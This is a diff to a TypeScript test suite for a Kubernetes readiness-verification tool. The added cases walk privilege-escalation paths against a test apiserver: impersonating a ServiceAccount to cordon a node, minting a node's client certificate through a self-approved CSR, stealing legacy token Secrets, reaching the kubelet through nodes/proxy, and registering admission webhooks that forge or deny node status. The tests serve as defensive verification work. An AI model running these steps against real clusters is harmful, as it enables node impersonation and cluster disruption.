@@ -2,15 +2,20 @@
 // extra grant, node-a's real pod-bound reporter token performs the attack
 // against the real apiserver, and `kubectl readiness verify` must have
 // predicted exactly that outcome. Each class has a denied twin, where the
-// same first hop leads nowhere. No kubelet runs here, so a pod path is proven
-// as the issue asks: the create succeeds as the other ServiceAccount, and the
-// pod's bound token is minted as a kubelet would mint it.
+// same first hop leads nowhere. The real kube-controller-manager signs and
+// approves CSRs and fills legacy token Secrets; the attacker's webhooks and
+// node-b's kubelet port are HTTPS endpoints the harness serves. No kubelet
+// runs here, so a pod path is proven as the issue asks: the create (or the
+// exec through the kubelet port) succeeds, and the pod's bound token is minted
+// as a kubelet would mint it.
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { readFileSync } from 'node:fs';
 import { startCluster, type Cluster } from '../cluster/cluster.ts';
+import { clientCSR, hostAddress, startEndpoint, type Endpoint, type Received } from '../cluster/endpoints.ts';
 import { boundClusterRole, serviceAccountSubject } from '../cluster/rbac.ts';
 import { apiRequest, putNodeStatus, type ApiResponse } from '../cluster/requests.ts';
-import { REPORTER, hardenedWithNodeAToken, loadScenario } from '../cluster/scenario.ts';
+import { CONDITION, REPORTER, hardenedWithNodeAToken, loadScenario, podBoundToken } from '../cluster/scenario.ts';
 import { cli } from './cli-runner.ts';
 import { CAPABILITY_TITLES, type ReadinessCapability } from '@kubectl-readiness/shared';
 
@@ -32,9 +37,28 @@ const serviceAccount = (name: string) => `apiVersion: v1\nkind: ServiceAccount\n
 const statusWriter = (account: string) =>
   `${serviceAccount(account)}---\n${role(`${account}-status`, '[{apiGroups: [""], resources: [nodes/status], verbs: [get, update]}]', serviceAccountSubject(NAMESPACE, account))}`;
 
-/** PUT node-b's status with a forged condition, as whoever the headers say. */
-const forgeStatus = (cluster: Cluster, token: string, impersonateUser?: string): Promise<ApiResponse> =>
-  putNodeStatus(cluster, { token, node: TARGET, message: 'written from node-a', ...(impersonateUser ? { impersonateUser } : {}) });
+/** A ServiceAccount that writes node status, with a legacy token Secret that kube-controller-manager fills. */
+const legacyTokenOf = (account: string) => `${statusWriter(account)}---
+apiVersion: v1
+kind: Secret
+type: kubernetes.io/service-account-token
+metadata: {name: ${account}-token, namespace: ${NAMESPACE}, annotations: {kubernetes.io/service-account.name: ${account}}}
+`;
+
+/** PUT node-b's status with a forged condition, as whoever the token, the headers or the client certificate say. */
+const forgeStatus = (
+  cluster: Cluster,
+  token: string,
+  impersonateUser?: string,
+  clientCertificate?: { cert: string; key: string },
+): Promise<ApiResponse> =>
+  putNodeStatus(cluster, {
+    node: TARGET,
+    message: 'written from node-a',
+    ...(token ? { token } : {}),
+    ...(impersonateUser ? { impersonateUser } : {}),
+    ...(clientCertificate ? { clientCertificate } : {}),
+  });
 
 /** TokenRequest for a ServiceAccount, made with `token`, bound to a Node or a Pod. */
 async function mintToken(cluster: Cluster, token: string, account: string, boundTo: { kind: 'Node' | 'Pod'; name: string; uid: string }) {
@@ -68,7 +92,7 @@ const THROWAWAY = 'node-x';
 const CAN_I: Record<ReadinessCapability, string[]> = {
   'forge-other-node-conditions': ['forge-conditions', TARGET],
   'lift-readiness-taints': ['lift-taint', TARGET],
-  'disrupt-other-nodes': ['disrupt-node', THROWAWAY],
+  'disrupt-other-nodes': ['disrupt-node', TARGET],
   'change-rules': ['change-rules'],
 };
 
@@ -257,7 +281,313 @@ const attacks: [Attack, Attack][] = [
       capability: 'change-rules',
     },
   ],
+  [
+    {
+      name: 'legacy impersonation of a ServiceAccount that may patch nodes: cordons node-b',
+      grants: impersonated('cordoner', '[{apiGroups: [""], resources: [nodes], verbs: [get, patch]}]'),
+      run: (cluster, token) => cordon(cluster, token, 'cordoner'),
+      capability: 'disrupt-other-nodes',
+    },
+    {
+      name: 'legacy impersonation of a ServiceAccount that may only read nodes, to cordon',
+      grants: impersonated('cordon-reader', '[{apiGroups: [""], resources: [nodes], verbs: [get]}]'),
+      run: (cluster, token) => cordon(cluster, token, 'cordon-reader'),
+      capability: 'disrupt-other-nodes',
+    },
+  ],
+  [
+    {
+      name: "creating and approving a kubelet client CSR for node-b: node-b's certificate",
+      grants: role(
+        'csr-approver',
+        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
+          {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]},
+          {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client-kubelet]}]`,
+      ),
+      run: (cluster, token) => forgeWithNodeCertificate(cluster, token, 'approve'),
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'the same, with approve only for the plain client signer',
+      grants: role(
+        'csr-approver-client',
+        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
+          {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]},
+          {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client]}]`,
+      ),
+      run: (cluster, token) => forgeWithNodeCertificate(cluster, token, 'approve'),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: 'creating a kubelet client CSR that kube-controller-manager approves for nodeclient',
+      grants: role(
+        'csr-nodeclient',
+        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
+          {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/nodeclient], verbs: [create]}]`,
+      ),
+      run: (cluster, token) => forgeWithNodeCertificate(cluster, token, 'wait'),
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'creating one without nodeclient: nobody approves it',
+      grants: role('csr-creator', '[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]}]'),
+      run: (cluster, token) => forgeWithNodeCertificate(cluster, token, 'wait'),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "reading Secrets in kube-system: a status writer's legacy token",
+      grants: `${legacyTokenOf('writer-s')}---\n${role('secret-reader', '[{apiGroups: [""], resources: [secrets], verbs: [get]}]', undefined, NAMESPACE)}`,
+      run: (cluster, token) => forgeWithLegacyToken(cluster, token, 'writer-s'),
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'reading Secrets only in default',
+      grants: `${legacyTokenOf('writer-t')}---\n${role('secret-reader-default', '[{apiGroups: [""], resources: [secrets], verbs: [get]}]', undefined, 'default')}`,
+      run: (cluster, token) => forgeWithLegacyToken(cluster, token, 'writer-t'),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "nodes/proxy to node-b's kubelet, then the token of the reporter pod there",
+      grants: role('node-proxy', '[{apiGroups: [""], resources: [nodes/proxy], verbs: [get, create]}]'),
+      run: (cluster, token) => proxyToKubeletAndForge(cluster, token),
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'reading nodes, without nodes/proxy',
+      grants: role('node-get', '[{apiGroups: [""], resources: [nodes], verbs: [get]}]'),
+      run: (cluster, token) => proxyToKubeletAndForge(cluster, token),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "registering a mutating webhook: node-b's own writes are forged",
+      grants: role('mutator', '[{apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [create]}]'),
+      run: (cluster, token) => registerWebhookAndWrite(cluster, token, 'mutating'),
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'reading mutating webhooks only',
+      grants: role(
+        'mutator-reader',
+        '[{apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [get, list]}]',
+      ),
+      run: (cluster, token) => registerWebhookAndWrite(cluster, token, 'mutating'),
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "registering a validating webhook: node-b's own writes are denied",
+      grants: role(
+        'denier',
+        '[{apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], verbs: [create]}]',
+      ),
+      run: (cluster, token) => registerWebhookAndWrite(cluster, token, 'validating'),
+      capability: 'disrupt-other-nodes',
+    },
+    {
+      name: 'reading validating webhooks only',
+      grants: role(
+        'denier-reader',
+        '[{apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], verbs: [get, list]}]',
+      ),
+      run: (cluster, token) => registerWebhookAndWrite(cluster, token, 'validating'),
+      capability: 'disrupt-other-nodes',
+    },
+  ],
 ];
+
+/** A synthetic answer for an attack whose last step is not one request: 200 when it worked. */
+const outcome = (worked: boolean, message: string): ApiResponse => ({ status: worked ? 200 : 0, message, body: null });
+
+async function poll<T>(seconds: number, attempt: () => Promise<T | null>): Promise<T | null> {
+  for (const deadline = Date.now() + seconds * 1000; Date.now() < deadline; await new Promise((resolve) => setTimeout(resolve, 250))) {
+    const value = await attempt();
+    if (value !== null) return value;
+  }
+  return null;
+}
+
+async function cordon(cluster: Cluster, token: string, account: string): Promise<ApiResponse> {
+  const response = await apiRequest(cluster, {
+    method: 'PATCH',
+    path: `/api/v1/nodes/${TARGET}`,
+    token,
+    impersonateUser: asAccount(account),
+    body: { spec: { unschedulable: true } },
+    contentType: 'application/merge-patch+json',
+  });
+  if (response.status === 200) await cluster.kubectlOk(['uncordon', TARGET]);
+  return response;
+}
+
+const CSR_PATH = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
+
+/**
+ * A kubelet's client certificate for node-b, asked for with node-a's token:
+ * approved by the attacker (`approve`) or by kube-controller-manager (`wait`),
+ * signed by kube-controller-manager, then used to write node-b's status.
+ */
+async function forgeWithNodeCertificate(cluster: Cluster, token: string, approval: 'approve' | 'wait'): Promise<ApiResponse> {
+  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
+  const name = `attack-${Date.now()}`;
+  const created = await apiRequest(cluster, {
+    method: 'POST',
+    path: CSR_PATH,
+    token,
+    body: {
+      apiVersion: 'certificates.k8s.io/v1',
+      kind: 'CertificateSigningRequest',
+      metadata: { name },
+      spec: {
+        request: Buffer.from(csr).toString('base64'),
+        signerName: 'kubernetes.io/kube-apiserver-client-kubelet',
+        usages: ['digital signature', 'client auth'],
+      },
+    },
+  });
+  if (created.status !== 201) return created;
+  if (approval === 'approve') {
+    const request = created.body as { status?: Record<string, unknown> };
+    request.status = { conditions: [{ type: 'Approved', status: 'True', reason: 'Attack', message: 'approved from node-a' }] };
+    const approved = await apiRequest(cluster, { method: 'PUT', path: `${CSR_PATH}/${name}/approval`, token, body: request });
+    if (approved.status !== 200) return approved;
+  }
+  const certificate = await poll(approval === 'approve' ? 30 : 10, async () => {
+    const read = await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token });
+    const issued = (read.body as { status?: { certificate?: string } }).status?.certificate;
+    return issued ? Buffer.from(issued, 'base64').toString() : null;
+  });
+  if (!certificate) return outcome(false, 'no certificate was issued');
+  return forgeStatus(cluster, '', undefined, { cert: certificate, key });
+}
+
+async function forgeWithLegacyToken(cluster: Cluster, token: string, account: string): Promise<ApiResponse> {
+  let refused: ApiResponse | null = null;
+  const legacy = await poll(30, async () => {
+    const read = await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${NAMESPACE}/secrets/${account}-token`, token });
+    if (read.status !== 200) {
+      refused = read;
+      return '';
+    }
+    const encoded = (read.body as { data?: { token?: string } }).data?.token;
+    return encoded ? Buffer.from(encoded, 'base64').toString() : null;
+  });
+  if (refused) return refused;
+  if (!legacy) return outcome(false, 'kube-controller-manager never filled the token Secret');
+  return forgeStatus(cluster, legacy);
+}
+
+let kubelet: Endpoint;
+let webhook: Endpoint;
+
+/**
+ * The apiserver proxies to node-b's kubelet port (the harness serves it on a
+ * real interface: the apiserver refuses loopback node addresses). Exec
+ * through that port hands over any pod's token; no kubelet runs here, so the
+ * reporter pod's token on node-b is minted as its kubelet would project it.
+ */
+async function proxyToKubeletAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
+  await apiRequest(cluster, {
+    method: 'PATCH',
+    path: `/api/v1/nodes/${TARGET}/status`,
+    body: {
+      status: {
+        addresses: [{ type: 'InternalIP', address: hostAddress() }],
+        daemonEndpoints: { kubeletEndpoint: { Port: kubelet.port } },
+      },
+    },
+    contentType: 'application/merge-patch+json',
+  });
+  const before = kubelet.received.length;
+  const proxied = await apiRequest(cluster, { method: 'GET', path: `/api/v1/nodes/${TARGET}/proxy/runningpods/`, token });
+  if (proxied.status !== 200) return proxied;
+  assert.equal(kubelet.received.at(before)?.path, '/runningpods/', "the request reached node-b's kubelet port");
+  return forgeStatus(cluster, await podBoundToken(cluster, TARGET), `system:node:${TARGET}`);
+}
+
+const FORGED_MESSAGE = 'forged by a webhook';
+
+/** The admission webhook an attacker would run: forges node-b's condition, or denies node-b's writes. */
+function answerAdmission(received: Received): { status: number; body: unknown } {
+  const review = JSON.parse(received.body) as { request: { uid: string; name?: string } };
+  const forNodeB = review.request.name === TARGET;
+  const path = new URL(received.path, 'https://webhook').pathname;
+  const now = new Date().toISOString();
+  const forged = [
+    { type: CONDITION, status: 'True', reason: 'Forged', message: FORGED_MESSAGE, lastHeartbeatTime: now, lastTransitionTime: now },
+  ];
+  const response =
+    path === '/forge' && forNodeB
+      ? {
+          allowed: true,
+          patchType: 'JSONPatch',
+          patch: Buffer.from(JSON.stringify([{ op: 'replace', path: '/status/conditions', value: forged }])).toString('base64'),
+        }
+      : path === '/deny' && forNodeB
+        ? { allowed: false, status: { code: 403, message: 'denied by a webhook' } }
+        : { allowed: true };
+  return {
+    status: 200,
+    body: { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: { uid: review.request.uid, ...response } },
+  };
+}
+
+/**
+ * Registers a webhook on node status updates with node-a's token, then lets
+ * node-b's status be written by someone else (the harness admin): a mutating
+ * webhook worked when the stored condition is the attacker's, a validating
+ * one when the write is denied.
+ */
+async function registerWebhookAndWrite(cluster: Cluster, token: string, kind: 'mutating' | 'validating'): Promise<ApiResponse> {
+  const resource = `${kind}webhookconfigurations`;
+  const name = `attack-${kind}`;
+  const registered = await apiRequest(cluster, {
+    method: 'POST',
+    path: `/apis/admissionregistration.k8s.io/v1/${resource}`,
+    token,
+    body: {
+      apiVersion: 'admissionregistration.k8s.io/v1',
+      kind: kind === 'mutating' ? 'MutatingWebhookConfiguration' : 'ValidatingWebhookConfiguration',
+      metadata: { name },
+      webhooks: [
+        {
+          name: `${kind}.attack.example.com`,
+          clientConfig: {
+            url: `${webhook.url}${kind === 'mutating' ? '/forge' : '/deny'}`,
+            caBundle: Buffer.from(readFileSync(cluster.caFile)).toString('base64'),
+          },
+          rules: [{ operations: ['UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['nodes/status'] }],
+          sideEffects: 'None',
+          admissionReviewVersions: ['v1'],
+          failurePolicy: 'Ignore',
+        },
+      ],
+    },
+  });
+  if (registered.status !== 201) return registered;
+  try {
+    // The apiserver picks up a new webhook configuration within a second or so.
+    const worked = await poll(15, async () => {
+      const write = await putNodeStatus(cluster, { node: TARGET, message: 'written by node-b', healthy: false });
+      if (kind === 'validating') return write.status === 403 && write.message.includes('denied by a webhook') ? write.message : null;
+      const stored = JSON.parse(await cluster.kubectlOk(['get', 'node', TARGET, '-o', 'json'])) as {
+        status: { conditions?: { type: string; message?: string }[] };
+      };
+      return stored.status.conditions?.find((condition) => condition.type === CONDITION)?.message === FORGED_MESSAGE ? 'forged' : null;
+    });
+    return outcome(worked !== null, worked ?? `the ${kind} webhook never acted`);
+  } finally {
+    await cluster.kubectlOk(['delete', resource, name]);
+  }
+}
 
 async function createPodAndForge(cluster: Cluster, token: string, namespace: string): Promise<ApiResponse> {
   const name = `attack-${Date.now()}`;
@@ -336,9 +666,15 @@ describe("escalation paths, walked for real with node-a's reporter token", () =>
   let cluster: Cluster;
   let token: string;
   before(async () => {
-    ({ cluster, token } = await hardenedWithNodeAToken());
+    ({ cluster, token } = await hardenedWithNodeAToken({ controllers: ['csrsigning', 'csrapproving', 'serviceaccount-token'] }));
+    kubelet = await startEndpoint(cluster, hostAddress(), () => ({ status: 200, body: { kind: 'PodList', apiVersion: 'v1', items: [] } }));
+    webhook = await startEndpoint(cluster, '127.0.0.1', answerAdmission);
   });
-  after(() => cluster?.stop());
+  after(async () => {
+    await kubelet?.close();
+    await webhook?.close();
+    await cluster?.stop();
+  });
 
   for (const pair of attacks) {
     for (const [index, attack] of pair.entries()) {
